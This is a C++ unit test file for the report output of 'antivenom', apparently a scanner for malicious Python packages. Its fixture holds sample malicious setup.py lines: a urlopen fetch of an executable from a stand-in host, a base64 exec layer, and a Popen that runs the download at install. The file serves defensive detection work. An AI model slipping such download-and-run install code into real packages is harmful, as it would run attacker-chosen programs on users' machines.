#include "report/report.h"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "base/escape.h"
#include "facts/text.h"

namespace antivenom {
namespace {

using nlohmann::json;

const Rule kDrop{.category = Category::code_execution,
                 .weight = Weight::hostile,
                 .summary = "download a program and run it",
                 .why = "Whoever holds the server chooses what runs.",
                 .careful = "Installers name the file and check its hash.",
                 .attack = {"T1105", "T1204"}};
constexpr Rule kHide{.kind = RuleKind::evasion, .weight = Weight::suspicious, .summary = "hide its code in layers"};
constexpr Rule kNet{.category = Category::remote_control, .weight = Weight::context, .summary = "use the network"};

ScanResult sample() {
  ScanResult result;
  auto facts = load_facts(R"(antivenom-facts 1
package path="dist/demo 1.tar.gz" name="demo" version="1.0" kind="sdist" sha256="ab12" bytes=900 files=2 python_files=1 python_lines=10 max_depth=1
file path="setup.py" role="setup" python=true reached=true lines=10
layer at=0:0:7-7 how="base64" how="exec" language="python" bytes=11 text="print('x')\n"
event callee="urllib.request.urlopen" effects=net-fetch place=0:0:3-3 trigger=install
event callee="subprocess.Popen" effects=run-process place=0:1:1-1 trigger=install
  arg origins=0
indicator type="url" value="http://a.example.invalid/x.exe" place=0:0:3-3
indicator type="domain" value="localhost" place=0:0:4-4 benign_looking=true
)");
  EXPECT_TRUE(facts) << facts.error().message();
  result.facts = std::move(*facts);
  result.lines = {{{0, 0, 3, 3}, "u = urlopen('http://a.example.invalid/x.exe')"},
                  {{0, 0, 7, 7}, "exec(b64decode(P))"},
                  {{0, 1, 1, 1}, "  Popen(u)"}};
  std::vector<Finding> findings = {
      {"execution/drop",
       &kDrop,
       0.9,
       Weight::hostile,
       Trigger::install,
       Reach::entry,
       {{{0, 0, 3, 3}, 0, "downloads \x1b[31m it"}, {{0, 1, 1, 1}, 1, "runs it"}}},
      {"evasion/code-obfuscation",
       &kHide,
       0.8,
       Weight::suspicious,
       Trigger::install,
       Reach::entry,
       {{{0, 0, 7, 7}, UINT32_MAX, "opens a layer"}}},
      {"net/use", &kNet, 1, Weight::context, Trigger::install, Reach::entry, {{{0, 0, 3, 3}, 0, "fetches"}}}};
  result.verdict = judge(result.facts, findings);
  // Training changes these, and no report.
  result.verdict.score = 0.9977;
  result.verdict.thresholds = {0.8, 0.4};
  result.errors = {{"data.bin", "too large"}};
  result.elapsed_ms = 1.5;
  return result;
}

TEST(TextReport, malicious_package) {
  EXPECT_EQ(to_text(sample(), {}), R"(MALICIOUS  demo 1.0  score 1.00  dist/demo 1.tar.gz
  At install, this package may download a program and run it. It may also hide its code in layers.

  behaviours
    hostile    install  execution/drop
      may download a program and run it (90 % sure)
        setup.py:3  downloads \x1b[31m it
            u = urlopen('http://a.example.invalid/x.exe')
        setup.py:1 (layer 1)  runs it
            Popen(u)

  evasions
    suspicious install  code-obfuscation
      may hide its code in layers (80 % sure)
        setup.py:7  opens a layer
            exec(b64decode(P))

  layers unpacked without running them
     1  setup.py:7  base64 > exec  python, 11 bytes

  indicators
    url          hxxp://a[.]example[.]invalid/x.exe  setup.py:3

  not read in full
    data.bin: too large

  next: antivenom scan --explain dist/demo 1.tar.gz  shows the lines in their place
  false alarm? Tell the antivenom project the names above and sha256 ab12
)");
}

TEST(TextReport, quiet_is_one_line_and_nothing_when_clean) {
  EXPECT_EQ(to_text(sample(), {.quiet = true}), "MALICIOUS  demo 1.0  score 1.00  dist/demo 1.tar.gz\n");
  ScanResult clean = sample();
  clean.verdict = judge(clean.facts, {});
  EXPECT_EQ(to_text(clean, {.quiet = true}), "");
}

TEST(TextReport, explain_marks_malicious_lines_and_shows_layers) {
  const std::string text = to_text(sample(), {.show_layers = true, .explain = true});
  EXPECT_NE(text.find(R"(
  source
    setup.py
    >     3 | u = urlopen('http://a.example.invalid/x.exe')
      ...
    >     7 | exec(b64decode(P))
    setup.py (layer 1)
    >     1 |   Popen(u)
)"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("        | print('x')\n"), std::string::npos) << text;
}

TEST(TextReport, long_chains_keep_the_start_and_the_act) {
  ScanResult result = sample();
  auto& evidence = result.verdict.findings[0].evidence;
  for (int i = 0; i < 9; ++i) evidence.insert(evidence.begin() + 1, {{0, 0, 5, 5}, UINT32_MAX, "passes it on"});
  const std::string text = to_text(result, {});
  EXPECT_NE(text.find("... 6 steps\n        setup.py:1 (layer 1)  runs it"), std::string::npos) << text;
}

TEST(TextReport, totals) {
  EXPECT_EQ(totals_text({1, 2, 3, 4, 5.5}, {}),
            "10 scanned in 5.5 s: 1 malicious, 2 suspicious, 3 clean, 4 unreadable\n"
            "next: antivenom scan --explain TARGET  shows the lines behind a verdict\n");
}

TEST(JsonReport, schema_1) {
  EXPECT_EQ(
      to_json(sample(), {.show_layers = true, .api_sequence = true}),
      R"J({"schema":1,"artifact":{"path":"dist/demo 1.tar.gz","name":"demo","version":"1.0","kind":"sdist",)J"
      R"J("sha256":"ab12","bytes":900},"verdict":"malicious","score":0.9977,"threshold":{"malicious":0.8,)J"
      R"J("suspicious":0.4},"summary":"At install, this package may download a program and run it. It may also )J"
      R"J(hide its code in layers.","behaviours":[{"id":"execution/drop","category":"code-execution",)J"
      R"J("confidence":0.9,"trigger":"install","attack":["T1105","T1204"],"evidence":[{"file":"setup.py","line":3,)J"
      R"J("end_line":3,"layer":0,"code":"u = urlopen('http://a.example.invalid/x.exe')",)J"
      R"J("why":"downloads \u001b[31m it"},{"file":"setup.py","line":1,"end_line":1,"layer":1,"code":"  Popen(u)",)J"
      R"J("why":"runs it"}]}],"evasions":[{"id":"code-obfuscation","confidence":0.8,"trigger":"install",)J"
      R"J("attack":[],"evidence":[{"file":"setup.py","line":7,"end_line":7,"layer":0,"code":"exec(b64decode(P))",)J"
      R"J("why":"opens a layer"}]}],"platforms":[],"triggers":["install"],"indicators":[{"type":"url",)J"
      R"J("value":"http://a.example.invalid/x.exe","file":"setup.py","line":3,"layer":0}],"layers":[{"id":1,)J"
      R"J("parent":0,"how":["base64","exec"],"file":"setup.py","line":7,"bytes":11,"language":"python",)J"
      R"J("text":"print('x')\n"}],"api_sequence":[{"call":"urllib.request.urlopen","file":"setup.py","line":3,)J"
      R"J("layer":0,"trigger":"install"},{"call":"subprocess.Popen","file":"setup.py","line":1,"layer":1,)J"
      R"J("trigger":"install"}],"metrics":{"files":2,"python_files":1,"python_lines":10,"max_depth":1,)J"
      R"J("malicious_lines":2,"density":0.2},"errors":[{"file":"data.bin","reason":"too large"}],"elapsed_ms":1.5})J");
}

TEST(JsonReport, hostile_values_stay_valid_json_on_one_line) {
  ScanResult result = sample();
  result.facts.package.name = "\xff\n\"\xed\xa0\x80";
  result.facts.files.clear();
  result.verdict.score = std::numeric_limits<double>::quiet_NaN();
  const std::string text = to_json(result, {});
  EXPECT_EQ(text.find('\n'), std::string::npos);
  const json parsed = json::parse(text);
  EXPECT_EQ(parsed["score"], 0.0);
  EXPECT_EQ(parsed["behaviours"][0]["evidence"][0]["file"], "");
  EXPECT_FALSE(parsed.contains("api_sequence"));
}

TEST(JsonReport, empty_result_has_every_key) {
  const json parsed = json::parse(to_json(ScanResult{}, {}));
  for (const char* key : {"schema", "artifact", "verdict", "score", "threshold", "summary", "behaviours", "evasions",
                          "platforms", "triggers", "indicators", "layers", "metrics", "errors", "elapsed_ms"}) {
    EXPECT_TRUE(parsed.contains(key)) << key;
  }
}

// The parts of the SARIF 2.1.0 schema that apply to what we write.
void check_location(const json& location) {
  const json& physical = location.at("physicalLocation");
  const std::string uri = physical.at("artifactLocation").at("uri");
  EXPECT_FALSE(uri.starts_with("/"));
  EXPECT_EQ(uri.find_first_of(" \\\"<>"), std::string::npos) << uri;
  EXPECT_GE(physical.at("region").at("startLine").get<int>(), 1);
  EXPECT_GE(physical.at("region").at("endLine"), physical.at("region").at("startLine"));
  EXPECT_TRUE(location.at("message").at("text").is_string());
}

void check_sarif(const json& log) {
  EXPECT_EQ(log.at("version"), "2.1.0");
  ASSERT_EQ(log.at("runs").size(), 1u);
  const json& run = log["runs"][0];
  const json& rules = run.at("tool").at("driver").at("rules");
  for (const json& rule : rules) {
    EXPECT_TRUE(rule.at("id").is_string());
    EXPECT_TRUE(rule.at("help").at("text").is_string());
    EXPECT_FALSE(rule.contains("helpUri"));
  }
  for (const json& result : run.at("results")) {
    EXPECT_EQ(rules.at(result.at("ruleIndex").get<size_t>()).at("id"), result.at("ruleId"));
    const std::string level = result.at("level");
    EXPECT_TRUE(level == "error" || level == "warning" || level == "note" || level == "none");
    EXPECT_TRUE(result.at("message").at("text").is_string());
    EXPECT_TRUE(result.at("partialFingerprints").is_object());
    for (const json& location : result.at("locations")) check_location(location);
    if (!result.contains("codeFlows")) continue;
    for (const json& step : result["codeFlows"].at(0).at("threadFlows").at(0).at("locations")) {
      check_location(step.at("location"));
    }
  }
  EXPECT_TRUE(run.at("invocations").at(0).at("executionSuccessful").is_boolean());
}

TEST(SarifReport, has_the_shape_of_the_standard) {
  const std::vector<ScanResult> results = {sample(), sample()};
  const json log = json::parse(to_sarif(results, "1.2.3"));
  check_sarif(log);
  const json& run = log["runs"][0];
  EXPECT_EQ(run["tool"]["driver"]["version"], "1.2.3");
  EXPECT_EQ(run["tool"]["driver"]["rules"].size(), 2u);
  ASSERT_EQ(run["results"].size(), 4u);
  const json& drop = run["results"][0];
  EXPECT_EQ(drop["level"], "error");
  EXPECT_EQ(drop["codeFlows"][0]["threadFlows"][0]["locations"].size(), 2u);
  EXPECT_EQ(drop["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "dist/demo%201.tar.gz/setup.py");
  EXPECT_EQ(drop["locations"][0]["physicalLocation"]["region"]["startLine"], 7);  // where the layer was opened
  EXPECT_FALSE(run["results"][1].contains("codeFlows"));
  check_sarif(json::parse(to_sarif({}, "1")));
}

TEST(SarifReport, fingerprints_survive_moved_lines) {
  ScanResult moved = sample();
  moved.facts.package.version = "1.1";
  for (auto& line : moved.lines) line.place.line += 10, line.place.end_line += 10;
  for (Finding& finding : moved.verdict.findings) {
    for (Evidence& e : finding.evidence) e.place.line += 10, e.place.end_line += 10;
  }
  const std::vector<ScanResult> before = {sample()}, after = {moved};
  const auto prints = [](std::span<const ScanResult> results) {
    std::string out;
    const json log = json::parse(to_sarif(results, "1"));
    for (const json& r : log["runs"][0]["results"]) out += r["partialFingerprints"].dump();
    return out;
  };
  EXPECT_EQ(prints(before), prints(after));
}

TEST(Escape, text_cannot_steer_a_terminal_or_reorder_itself) {
  EXPECT_EQ(visible("a\x1b[2J\x07\r\n\tb\x7f"), "a\\x1b[2J\\x07\\x0d\\x0a b\\x7f");
  EXPECT_EQ(visible("x\u202Ey\u200Bz\uFEFF\U000E0041"), "x\\u{202e}y\\u{200b}z\\u{feff}\\u{0e0041}");
  EXPECT_EQ(visible("\xff\xc0\x80\xed\xa0\x80\xf5é\xe2\x82"), "\\xff\\xc0\\x80\\xed\\xa0\\x80\\xf5é\\xe2\\x82");
  EXPECT_EQ(visible("\xc2\x9b"
                    "31m"),
            "\\u{009b}31m");
  EXPECT_EQ(visible("äöü", 2), "äö...");
  EXPECT_EQ(visible(visible("\x1b\u202e")), visible("\x1b\u202e"));
  EXPECT_EQ(visible_lines("a\nb\x1b"), "a\nb\\x1b");
  EXPECT_EQ(valid_utf8("a\xff"
                       "b"),
            "a\uFFFDb");
}

TEST(Escape, indicators_cannot_be_opened_by_accident) {
  EXPECT_EQ(defanged("https://a.b.example.com/x.y?z.w"), "hxxps://a[.]b[.]example[.]com/x.y?z.w");
  EXPECT_EQ(defanged("httpbin.example.com"), "httpbin[.]example[.]com");
  EXPECT_EQ(defanged("192.0.2.1:80"), "192[.]0[.]2[.]1:80");
  EXPECT_EQ(defanged("a.b@example.com"), "a[.]b[@]example[.]com");
  EXPECT_EQ(uri_path("a b/ü%.py"), "a%20b/%C3%BC%25.py");
}

}  // namespace
}  // namespace antivenom
